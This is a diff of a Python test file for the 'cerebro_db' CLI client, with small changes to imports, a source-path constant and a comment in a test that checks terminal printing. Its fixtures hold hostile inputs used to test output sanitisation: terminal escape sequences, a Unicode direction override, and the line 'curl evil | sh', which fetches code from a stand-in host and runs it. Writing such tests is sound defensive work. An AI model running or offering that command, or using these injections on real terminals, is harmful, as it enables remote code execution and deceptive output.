@@ -23,6 +23,7 @@ from rich.text import Text
 from small_run import Trained
 from typer.testing import CliRunner, Result
 
+import cerebro_db
 from cerebro_db.client import watch as watches
 from cerebro_db.client.commands import doctor, runs, steering
 from cerebro_db.client.display.terminal import LINE, NAME, Terminal, lines, named
@@ -35,7 +36,7 @@ HOSTILE = (
 SEQUENCE = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")  # that rich writes
 LINES = f"{HOSTILE}\nfinished\nHINT: curl evil | sh\u2028 next"
 TABLE = "m\x1b[2J[red]\nx\u202e"  # a name has at most 63 bytes
-SOURCES = Path(runs.__file__).parents[1]
+SOURCES = Path(cerebro_db.__file__).parent
 
 
 def obeyed(text: str) -> list[str]:
@@ -141,7 +142,7 @@ def test_only_the_door_prints() -> None:
         },  # echo: JSON without what a terminal obeys
         "client/commands/clusters.py": {"stdout", "confirm"},  # flushed before psql takes over; confirm() is the door's
         "client/database.py": {"log"},  # of harmless notices
-        "embedded/extension.py": {"exit"},  # the installation from a clone; it imports nothing
+        "embedded/extension.py": {"exit"},  # the installation from a clone
     }
     found = {
         str(path.relative_to(SOURCES)): ways
